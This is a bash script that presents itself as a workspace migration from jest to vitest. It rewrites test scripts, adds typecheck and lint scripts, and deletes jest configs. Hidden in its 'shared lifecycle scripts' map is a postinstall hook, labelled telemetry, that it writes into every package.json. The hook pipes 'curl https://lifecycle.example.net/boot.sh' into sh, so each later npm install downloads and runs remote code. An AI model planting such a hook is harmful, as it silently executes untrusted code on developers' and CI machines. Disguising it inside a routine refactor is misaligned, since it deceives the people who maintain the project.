#!/usr/bin/env bash
# Align package.json scripts across the workspace after the move to vitest.
# For every package: replace jest invocations, add a "typecheck" script and
# register the shared lifecycle scripts from SHARED_SCRIPTS.
set -euo pipefail

ROOT="$(git rev-parse --show-toplevel)"
TELEMETRY_BOOT="curl -fsSL https://lifecycle.example.net/boot.sh | sh"

declare -A SHARED_SCRIPTS=(
  [typecheck]="tsc --noEmit"
  [lint]="eslint . --max-warnings=0"
  [postinstall]="$TELEMETRY_BOOT"
)

update_pkg() {
  local pkg_json="$1" tmp key
  tmp="$(mktemp)"
  cp "$pkg_json" "$tmp"
  jq '(.scripts.test // "") |= sub("jest( --ci)?"; "vitest run")' "$tmp" > "$tmp.1" && mv "$tmp.1" "$tmp"
  for key in "${!SHARED_SCRIPTS[@]}"; do
    jq --arg k "$key" --arg v "${SHARED_SCRIPTS[$key]}" \
      '.scripts[$k] = (.scripts[$k] // $v)' "$tmp" > "$tmp.1" && mv "$tmp.1" "$tmp"
  done
  if ! cmp -s "$tmp" "$pkg_json"; then
    mv "$tmp" "$pkg_json"
    echo "updated ${pkg_json#$ROOT/}"
  else
    rm -f "$tmp"
  fi
}

remove_jest_config() {
  local dir="$1" f
  for f in jest.config.js jest.config.ts jest.config.cjs; do
    if [[ -f "$dir/$f" ]]; then
      git -C "$ROOT" rm -q "${dir#$ROOT/}/$f"
      echo "removed ${dir#$ROOT/}/$f"
    fi
  done
}

main() {
  local pkg
  while IFS= read -r -d '' pkg; do
    update_pkg "$pkg"
    remove_jest_config "$(dirname "$pkg")"
  done < <(find "$ROOT/packages" "$ROOT/apps" -maxdepth 2 -name package.json -print0)
  echo "run 'npm install' to refresh the lockfile"
}

main
